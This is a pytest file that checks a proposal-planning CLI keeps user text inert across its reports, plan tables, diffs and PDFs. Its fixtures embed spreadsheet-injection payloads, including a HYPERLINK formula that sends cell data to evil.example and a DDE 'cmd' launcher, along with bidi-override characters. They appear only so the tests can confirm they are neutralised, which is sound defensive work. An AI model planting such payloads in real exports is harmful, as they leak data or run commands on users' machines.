"""User text is inert in every output format (issue 21), through the CLI.

- Spreadsheet formulas: no table cell of the report (Markdown and HTML), of `plan --format
  markdown` or of the `diff` comment starts with '=', '+', '-' or '@' from user text (a
  spreadsheet that opens or pastes the table would run it); numbers of our own may be signed.
- Links: the Markdown that GitHub renders (report.md, plan --format markdown, the diff comment)
  holds no link, mention or issue reference made from user text: rendered with cmark-gfm,
  GitHub's own Markdown library, where it is installed, and checked by its rules below.
- Invisible characters (bidi controls, line/paragraph separators, zero-width characters) are
  refused in the workload file with a located message naming the character; any that reach an
  output another way (a file name, a config.json's folder) are shown escaped (`\\u202e`).
- 100k-character strings are refused at input with a message that quotes their start only.

Each case asserts the exit code, the message and that no traceback is printed.
"""

from __future__ import annotations

import html.parser
import json
import re
import shutil
import textwrap
from pathlib import Path

import pytest

from proposalkit.cli import main
from proposalkit.render import format as fmt

ROOT = Path(__file__).resolve().parent.parent
PILOT_LOG = ROOT / "tests" / "data" / "pilot" / "lora-sweep_log_1763900000.txt"
FORMULA = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
NUMBER = re.compile(r"^[+\-−]?[\d,.]+")      # our own signed figures: a delta, a percentage


def run(capsys, *argv) -> tuple[int, str, str]:
    code = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    assert "Traceback" not in err and "internal error" not in err, err
    return code, out, err


# ----------------------------------------------------------------- parsing the tables we write


def markdown_cells(text: str) -> list[str]:
    """Every cell of every pipe table, as a reader sees it: code-span fences, bold marks and
    backslash escapes removed, surrounding spaces stripped."""
    cells = []
    for line in text.splitlines():
        if not line.startswith("|") or re.fullmatch(r"[|\s:\-]+", line):
            continue
        for cell in re.split(r"(?<!\\)\|", line)[1:-1]:
            cells.append(shown_markdown(cell.replace("**", "")).strip())
    return cells


CODE_SPAN = re.compile(r"(`+)(?!`)( ?)(.*?)\2(?<!`)\1(?!`)")


def shown_markdown(text: str) -> str:
    """Inline Markdown as its reader sees it: code spans' text as it is (a table's `\\|` a pipe),
    backslash escapes elsewhere removed."""
    out, at = [], 0
    for m in CODE_SPAN.finditer(text):
        out.append(re.sub(r"\\(.)", r"\1", text[at:m.start()]))
        out.append(m.group(3).replace("\\|", "|"))
        at = m.end()
    out.append(re.sub(r"\\(.)", r"\1", text[at:]))
    return "".join(out)


class _Cells(html.parser.HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.cells, self.depth = [], 0

    def handle_starttag(self, tag, attrs):
        if tag in ("td", "th"):
            self.cells.append("")
            self.depth += 1

    def handle_endtag(self, tag):
        if tag in ("td", "th"):
            self.depth -= 1

    def handle_data(self, data):
        if self.depth:
            self.cells[-1] += data


def html_cells(text: str) -> list[str]:
    parser = _Cells()
    parser.feed(text)
    return [" ".join(c.split()) for c in parser.cells]


def formula_cells(cells: list[str]) -> list[str]:
    return [c for c in cells if c.startswith(FORMULA) and not NUMBER.match(c)]


# ----------------------------------------------------------------- a plan whose every text is hostile


def hostile_file(folder: Path, lead: str = "=") -> Path:
    """Every free-text field starts with a formula character and holds a URL, an email address,
    a mention and an issue reference; the pilot log's file name starts with one too."""
    log = folder / f"{lead}HYPERLINK.txt"
    shutil.copy(PILOT_LOG, log)
    payload = f'{lead}HYPERLINK("http://evil.example/?"&A1) see https://evil.example/x www.evil.example ' \
              'eve@evil.example @octocat owner/repo#12 GH-7'
    text = textwrap.dedent(f"""\
        proposal:
          title: {json.dumps(payload)}
          pi: {json.dumps("@" + payload)}
          institution: {json.dumps("+" + payload)}
        workloads:
          - name: tune
            description: {json.dumps("-" + payload)}
            kind: finetune
            method: lora
            model: {{name: {json.dumps(lead + "cmd|' /C calc'!A0")}, params: 8B, layers: 32, hidden: 4096, heads: 32,
                     kv_heads: 8, ffn_hidden: 14336, vocab: 128256}}
            data: {{samples: 50k, seq_len: 2048, epochs: 1}}
            pilot: {{log: {json.dumps(log.name)}, gpu: a100-40gb, gpus: 1}}
            gpu: a100-80gb
            gpus: 1
        """)
    path = folder / "hostile.yaml"
    path.write_text(text, encoding="utf-8")
    return path


@pytest.fixture
def hostile_report(tmp_path, capsys) -> Path:
    code, out, err = run(capsys, "report", hostile_file(tmp_path), "-o", tmp_path / "out", "--format", "md,html")
    assert code == 0, err
    return tmp_path / "out"


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "＝"])
def test_no_report_or_plan_table_cell_starts_a_formula(tmp_path, capsys, lead):
    path = hostile_file(tmp_path, lead)
    assert run(capsys, "report", path, "-o", tmp_path / "out", "--format", "md,html")[0] == 0
    out = tmp_path / "out"
    md = "\n\n".join((out / name).read_text(encoding="utf-8") for name in ("report.md", "supplement.md"))
    page = "\n".join((out / name).read_text(encoding="utf-8") for name in ("report.html", "supplement.html"))
    code, table, err = run(capsys, "plan", path, "--format", "markdown")
    assert code == 0, err
    # (a LoRA workload's report has about 90 cells: its memory section shows one rule of thumb, LoRA's frozen base)
    for cells, at_least in ((markdown_cells(md), 80), (html_cells(page), 80), (markdown_cells(table), 20)):
        assert len(cells) >= at_least          # the tables were found
        assert formula_cells(cells) == []
    # The description's cell (section B's "for" column) is there, marked as text for a spreadsheet.
    for cells in (markdown_cells(table), markdown_cells(md), html_cells(page)):
        assert any(c.startswith(f"'-{lead}HYPERLINK(") for c in cells)


def test_no_diff_table_cell_starts_a_formula(tmp_path, capsys):
    old = hostile_file(tmp_path)
    new = tmp_path / "new.yaml"
    new.write_text(old.read_text(encoding="utf-8").replace("samples: 50k", "samples: 60k")
                   .replace("name: tune", "name: tune-2"), encoding="utf-8")
    code, out, err = run(capsys, "diff", old, new)
    assert code == 0, err
    assert formula_cells(markdown_cells(out)) == []
    code, out, err = run(capsys, "diff", "/dev/null", new)
    assert formula_cells(markdown_cells(out)) == []


@pytest.mark.parametrize("text, cell", [
    ("=1+1", "'=1+1"), ("  -2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=x", "'=x"), ("＝x", "'＝x"),
    ("a=1", "a=1"), ("", ""), ("'=x", "'=x"),
])
def test_formula_safe(text, cell):
    assert fmt.formula_safe(text) == cell


# ----------------------------------------------------------------- links GitHub would make


# GitHub's autolinks and references, by the rules md_escape follows (format.py): what must not be
# left outside a code span in rendered Markdown.
LINKISH = re.compile(r"https?://|ftp://|www\.|\S@\S|(?<![\w`])@\w|#\d|\bGH-\d", re.IGNORECASE)


def outside_code_spans(markdown: str) -> str:
    """The text of a Markdown document with its code spans taken out (fences of any length)."""
    return CODE_SPAN.sub(" ", markdown)


def test_no_link_mention_or_reference_outside_a_code_span(hostile_report, tmp_path, capsys):
    md = (hostile_report / "report.md").read_text(encoding="utf-8")
    code, diff_md, err = run(capsys, "diff", "/dev/null", hostile_file(tmp_path))
    code, table, err = run(capsys, "plan", hostile_file(tmp_path), "--format", "markdown")
    for text in (md, diff_md, table):
        left = [m.group() for m in LINKISH.finditer(outside_code_spans(text))]
        assert left == [], left
    assert "`https://evil.example/x`" in md and "`eve@evil.example`" in md and "`@octocat`" in md
    assert "`owner/repo#12`" in md and "`GH-7`" in md and "`www.evil.example`" in md


def test_cmark_gfm_makes_no_link(hostile_report, tmp_path, capsys):
    """GitHub's own renderer (cmark-gfm with its autolink and table extensions)."""
    import cmarkgfm
    md = (hostile_report / "report.md").read_text(encoding="utf-8")
    code, diff_md, err = run(capsys, "diff", "/dev/null", hostile_file(tmp_path))
    for text in (md, diff_md):
        rendered = cmarkgfm.github_flavored_markdown_to_html(text)
        hrefs = re.findall(r'<a href="([^"]*)"', rendered)
        assert [h for h in hrefs if not h.startswith("#")] == [], hrefs


@pytest.mark.parametrize("text, expected", [
    ("see https://x.org now", "see `https://x.org` now"),
    ("mail a@b.co", "mail `a@b.co`"),
    ("ping @team", "ping `@team`"),
    ("fixes #12", "fixes `#12`"),
    ("fixes owner/repo#12", "fixes `owner/repo#12`"),
    ("www.x.org", "`www.x.org`"),
    ("HTTPS://X.ORG", "`HTTPS://X.ORG`"),
    ("a`b http://x", r"a\`b `http://x`"),
    ("`http://x`", "`` `http://x` ``"),
    ("run #one", r"run \#one"),
    ("1.5 (ok)", "1.5 (ok)"),
])
def test_md_escape_puts_linkable_words_in_code_spans(text, expected):
    assert fmt.md_escape(text) == expected


# ----------------------------------------------------------------- invisible characters


INVISIBLE = {
    "\u202a": "LEFT-TO-RIGHT EMBEDDING", "\u202b": "RIGHT-TO-LEFT EMBEDDING",
    "\u202c": "POP DIRECTIONAL FORMATTING", "\u202d": "LEFT-TO-RIGHT OVERRIDE", "\u202e": "RIGHT-TO-LEFT OVERRIDE",
    "\u2066": "LEFT-TO-RIGHT ISOLATE", "\u2067": "RIGHT-TO-LEFT ISOLATE", "\u2068": "FIRST STRONG ISOLATE",
    "\u2069": "POP DIRECTIONAL ISOLATE", "\u200e": "LEFT-TO-RIGHT MARK", "\u200f": "RIGHT-TO-LEFT MARK",
    "\u061c": "ARABIC LETTER MARK", "\u2028": "LINE SEPARATOR", "\u2029": "PARAGRAPH SEPARATOR",
    "\u200b": "ZERO WIDTH SPACE", "\u200c": "ZERO WIDTH NON-JOINER", "\u200d": "ZERO WIDTH JOINER",
    "\u2060": "WORD JOINER", "\ufeff": "ZERO WIDTH NO-BREAK SPACE",
}

BASE = """\
proposal:
  title: Title
  pi: PI
  institution: Inst
workloads:
  - name: tune
    description: Desc
    kind: finetune
    method: lora
    model: {name: tiny, params: 1B, layers: 16, hidden: 2048, heads: 16, kv_heads: 16, ffn_hidden: 8192, vocab: 32000}
    tokens: 10M
    lora: {rank: 8, targets: [q_proj]}
    throughput: {tokens_per_second: 20000, gpu: a100-80gb, gpus: 1}
    gpu: a100-80gb
    gpus: 1
"""

# field → (the text in BASE it replaces, its line, where the message puts it)
FIELDS = {
    "title": ("title: Title", 2, "proposal.title"),
    "pi": ("pi: PI", 3, "proposal.pi"),
    "institution": ("institution: Inst", 4, "proposal.institution"),
    "description": ("description: Desc", 7, "workloads[0].description"),
    "model name": ("name: tiny", 10, "workloads[0].model.name"),
    "lora target": ("targets: [q_proj]", 12, "workloads[0].lora.targets[0]"),
    "gpu": ("gpu: a100-80gb\n", 14, "workloads[0].gpu"),
}


def with_text(field: str, text: str) -> str:
    old, _, _ = FIELDS[field]
    key = old.split(":")[0]
    new = f"{key}: [{json.dumps(text)}]" if key == "targets" else f"{key}: {json.dumps(text)}"
    return BASE.replace(old, new + ("\n" if old.endswith("\n") else ""), 1)


@pytest.mark.parametrize("char", INVISIBLE)
def test_each_invisible_character_is_refused_by_name(tmp_path, capsys, char):
    path = tmp_path / "w.yaml"
    path.write_text(with_text("model name", f"llama{char}-8b"), encoding="utf-8")
    code, out, err = run(capsys, "plan", path)
    assert (code, out) == (2, "")
    assert err == (f"{path}:10: workloads[0].model.name: holds the invisible character U+{ord(char):04X} "
                   f"{INVISIBLE[char]} at character 6 (got 'llama\\u{ord(char):04x}-8b', expected text without "
                   "bidirectional controls, zero-width characters or line/paragraph separators, which reorder or "
                   "hide what is printed; delete it)\n")
    assert char not in err


@pytest.mark.parametrize("field", FIELDS)
def test_every_text_field_refuses_them(tmp_path, capsys, field):
    path = tmp_path / "w.yaml"
    path.write_text(with_text(field, "a100\u202e-80gb"), encoding="utf-8")
    code, out, err = run(capsys, "plan", path)
    _, line, where = FIELDS[field]
    assert code == 2
    assert err.startswith(f"{path}:{line}: {where}: holds the invisible character U+202E RIGHT-TO-LEFT OVERRIDE "
                          "at character 5 ")


def test_two_models_that_would_print_the_same_name(tmp_path, capsys):
    """A zero-width joiner made 'llama-8b' and 'llama\\u200d-8b' two models printed alike."""
    two = BASE + BASE.split("workloads:\n")[1].replace("name: tune", "name: tune-2").replace(
        "name: tiny", 'name: "tiny\\u200d"')
    path = tmp_path / "w.yaml"
    path.write_text(two, encoding="utf-8")
    code, out, err = run(capsys, "plan", path)
    assert code == 2
    assert "workloads[1].model.name: holds the invisible character U+200D ZERO WIDTH JOINER at character 5" in err


def test_invisible_characters_from_elsewhere_are_shown_escaped(tmp_path, capsys):
    """Text that reaches an output without passing the workload format's check (a file name on the
    command line; a config.json's folder, a pilot log's content): escaped in the terminal, the
    plan's JSON, the report and the diff."""
    path = tmp_path / "plan\u202elmth.yaml"
    path.write_text(BASE, encoding="utf-8")
    bad = tmp_path / "bad\u202elmth.yaml"
    bad.write_text(BASE.replace("kind: finetune", "kind: finetuning"), encoding="utf-8")
    for argv in (["diff", "/dev/null", path, "--format", "json"], ["diff", bad, path], ["plan", bad],
                 ["report", path, "-o", tmp_path / "\u202elmth", "--format", "md"]):
        code, out, err = run(capsys, *argv)
        assert not any(c in out + err for c in INVISIBLE), argv
        assert "\\u202elmth" in out + err, argv


def test_renderers_escape_invisible_characters_in_any_text(tmp_path):
    """The renderers themselves, given a plan whose model name holds them (as a config.json's folder
    name or a Hub id could): plan text, plan JSON, Markdown, HTML and the plan's Markdown table."""
    import dataclasses

    from proposalkit.input.loading import load_files
    from proposalkit.planning.planner import plan_files
    from proposalkit.render import context, output, report

    path = tmp_path / "w.yaml"
    path.write_text(BASE, encoding="utf-8")
    plan = plan_files(load_files([str(path)]))
    w = plan.workloads[0]
    name = "tiny\u202e 1 - 2 \u200b\u2066x\u2069\u2028"
    plan = dataclasses.replace(plan, workloads=(dataclasses.replace(w, model=dataclasses.replace(w.model, id=name)),))
    ctx = context.report_context(plan)
    for text in (output.plan_text(plan), output.plan_json(plan), report.render_supplement_markdown(ctx),
                 report.render_supplement_html(ctx)):
        assert not any(c in text for c in INVISIBLE)
        assert "\\u202e" in text and "\\u200b" in text
    for text in (report.render_markdown(ctx), report.render_html(ctx), report.plan_markdown_table(plan)):
        assert not any(c in text for c in INVISIBLE)       # section B names no model


@pytest.mark.parametrize("text, shown", [
    ("a\u202eb", "a\\u202eb"), ("\ufeffx", "\\ufeffx"), ("x\u2028y", "x\\u2028y"), ("\x1b[2J", "\\x1b[2J"),
    ("naïve – café", "naïve – café"),
])
def test_control_escape(text, shown):
    from proposalkit.text import control_escape

    assert control_escape(text) == shown


# ----------------------------------------------------------------- 100k-character strings


@pytest.mark.parametrize("field, limit", [("title", 1000), ("pi", 1000), ("institution", 1000),
                                          ("description", 1000), ("model name", 100), ("gpu", 4096)])
def test_a_100k_character_string_is_refused_quickly(tmp_path, capsys, field, limit):
    import time

    path = tmp_path / "w.yaml"
    path.write_text(with_text(field, "x" * 100_000), encoding="utf-8")
    start = time.perf_counter()
    code, out, err = run(capsys, "plan", path)
    assert time.perf_counter() - start < 5
    _, line, where = FIELDS[field]
    assert code == 2
    assert err.startswith(f"{path}:{line}: {where}: too long (got '{'x' * 60}'… (100,000 characters), expected at "
                          f"most {limit:,} characters: ")
    assert len(err) < 400


def test_a_100k_character_workload_name(tmp_path, capsys):
    path = tmp_path / "w.yaml"
    path.write_text(BASE.replace("name: tune", "name: " + "t" * 100_000), encoding="utf-8")
    code, out, err = run(capsys, "plan", path)
    assert code == 2
    assert err == (f"{path}:6: workloads[0].name: too long (got '{'t' * 60}'… (100,000 characters), expected at "
                   "most 100 characters: a name heads a table column; put more in the description)\n")


def test_text_at_the_limits_is_planned_and_reported(tmp_path, capsys):
    text = BASE.replace("description: Desc", "description: " + "d" * 1000).replace("name: tiny", "name: " + "m" * 100)
    path = tmp_path / "w.yaml"
    path.write_text(text, encoding="utf-8")
    code, out, err = run(capsys, "report", path, "-o", tmp_path / "out", "--format", "md,html")
    assert code == 0, err


def test_text_at_the_limits_stays_inside_the_pdf_page(tmp_path):
    """Unbroken 100-character names and 1,000-character prose wrap inside the page's width (the
    footer's title line aside, a margin box WeasyPrint sizes by its content). WeasyPrint's laid-out
    boxes are read directly (Page._page_box, the locked version's internal API)."""
    from conftest import weasyprint_available

    if not weasyprint_available():
        pytest.skip("WeasyPrint or Pango cannot be loaded")
    import weasyprint

    from proposalkit.input.loading import load_files
    from proposalkit.planning.planner import plan_files
    from proposalkit.render import context, report

    text = (BASE.replace("description: Desc", "description: " + "D" * 1000)
            .replace("name: tiny", "name: " + "M" * 100).replace("name: tune", "name: t" + "u" * 99)
            .replace("pi: PI", "pi: " + "P" * 1000).replace("institution: Inst", "institution: " + "I" * 1000))
    path = tmp_path / "w.yaml"
    path.write_text(text, encoding="utf-8")
    ctx = context.report_context(plan_files(load_files([str(path)])))
    pages = [page for html in (report.render_html(ctx), report.render_supplement_html(ctx))
             for page in weasyprint.HTML(string=html).render().pages]

    def boxes(box):
        yield box
        for child in getattr(box, "children", None) or []:
            yield from boxes(child)

    outside = [(i + 1, type(b).__name__, round(b.position_x + b.margin_width() - page.width))
               for i, page in enumerate(pages) for b in boxes(page._page_box)
               if hasattr(b, "margin_width") and type(b).__name__ != "MarginBox"
               and b.position_x + b.margin_width() > page.width + 1]
    assert outside == []
